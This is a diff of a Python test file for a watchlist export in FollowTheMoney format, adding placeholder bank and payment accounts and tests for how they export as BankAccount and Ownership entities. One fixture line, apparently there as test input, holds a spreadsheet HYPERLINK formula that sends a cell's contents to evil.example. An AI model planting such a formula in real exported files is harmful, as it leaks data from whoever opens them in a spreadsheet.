@@ -30,6 +30,9 @@ from tests.store.exchange.round_trip import exported, exported_again
 from tests.store.make import NOON, OFFER, mention, phone, register, report
 
 SEEN = Sighting(NOON, NOON + timedelta(days=3), counts=False)
+ACCOUNTS = ("clabe:002010077777777771", "iban:es8200000000000000000000", "bcp:1910000000017", "wells-fargo:00000017",
+            "itau:0001/000017", "nequi:+573000000017", "pix:zorzal@viagens.example",
+            "alias:viajes.zorzal.mp")  # fmt: skip
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
 
@@ -40,6 +43,7 @@ def _fill(session: Session) -> None:
     report(session, 1, [mention("ViveOnline", "@vive.online", EVIL)], advert, labels=(OFFER,), kind=DocumentKind.AD)
     report(session, 9000, [mention("Juan Pérez Quispe", is_person=True, status=LegalStatus.CHARGED)])
     watchlist.add_names(session, 1, [("Paso Antiguo Zorzal", NameKind.PREVIOUS_NAME)], SEEN)
+    watchlist.add_contacts(session, 1, [(ContactType.ACCOUNT, value) for value in ACCOUNTS], SEEN)
     watchlist.create(session, "Kantuta", is_person=False, seen=SEEN, seed_key="Kantuta & Söhne")
     watchlist.add_names(session, 3, [("Kantuta", NameKind.NAME)], SEEN)
     report(session, 18_000, [], [phone("+573000000099")], labels=(OFFER,), kind=DocumentKind.AD)  # has no name
@@ -71,6 +75,7 @@ def test_a_round_trip_loses_nothing(database: Database, tmp_path: Path) -> None:
         assert watchlist_file.write(before, path) == 3
         after = _again(session, path)
     assert [_comparable(entry) for entry in after] == [_comparable(entry) for entry in before]
+    assert {value for kind, value in after[0].contacts if kind is ContactType.ACCOUNT} == set(ACCOUNTS)
     assert dict(before[0].names)["Paso Antiguo Zorzal"] is NameKind.PREVIOUS_NAME
 
 
@@ -83,6 +88,40 @@ def test_an_export_read_into_an_empty_watch_goes_out_again_as_it_came(database: 
     assert exported_again(one, two) == exported(one)
     publishers = [entity["properties"].get("publisher") for entity in exported(two).values()]
     assert ["cl_voz"] in publishers
+
+
+def test_accounts_at_banks_are_owned_by_the_operator(database: Database, tmp_path: Path) -> None:
+    path = tmp_path / "watchlist.ftm.json"
+    with database.transaction() as session:
+        _fill(session)
+        one = _entries(session)[0]
+    watchlist_file.write([one], path)
+    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    banks = {each["id"]: each["properties"] for each in lines if each["schema"] == "BankAccount"}
+    assert {"accountNumber": ["1910000000017"], "bankName": ["bcp"]} in banks.values()
+    assert {"iban": ["ES8200000000000000000000"]} in banks.values()
+    owned = [each["properties"] for each in lines if each["schema"] == "Ownership"]
+    assert {key for each in owned for key in each["asset"]} == set(banks)
+    assert {key for each in owned for key in each["owner"]} == {ftm.entity_id(one)}
+    assert [each["id"] for each in lines if each["target"]] == [ftm.entity_id(one)]
+
+
+def test_bank_accounts_of_other_lists_are_taken_where_they_say_enough(tmp_path: Path) -> None:
+    path = tmp_path / "list.ftm.json"
+    accounts = [
+        {"accountNumber": ["191-0000000-0-17"], "bankName": ["Banco Kantuta S.A."]},
+        {"accountNumber": ["00000000000017"]},  # at which bank?
+        {"iban": ["ES82 0000 0000 0000 0000 0000"]},
+    ]
+    others = [{"id": f"b-{n}", "schema": "BankAccount", "properties": each} for n, each in enumerate(accounts)]
+    owner = {"owner": ["x-1"], "asset": [f"b-{n}" for n in range(4)]}
+    others.append({"id": "o-1", "schema": "Ownership", "properties": owner})
+    path.write_text(_line() + "\n".join(map(json.dumps, others)), encoding="utf-8")
+    (seed,) = read_ftm(path).seeds
+    assert {value for kind, value in seed.contacts if kind is ContactType.ACCOUNT} == {
+        "kantuta:1910000000017",
+        "iban:es8200000000000000000000",
+    }
 
 
 def test_who_stands_cleared_elsewhere_is_not_listed_here(database: Database, tmp_path: Path) -> None:
@@ -157,7 +196,7 @@ def test_entities_are_what_the_vocabulary_allows(database: Database, tmp_path: P
         _fill(session)
         assert watchlist_file.write(_entries(session), target) == 3
     assert {json.loads(line)["schema"] for line in target.read_text(encoding="utf-8").splitlines()} == {
-        "Organization", "Person", "UserAccount", "Article", "Documentation"
+        "Organization", "Person", "UserAccount", "BankAccount", "Ownership", "Article", "Documentation"
     }  # fmt: skip
     assert list(checked.faults(target)) == []
 
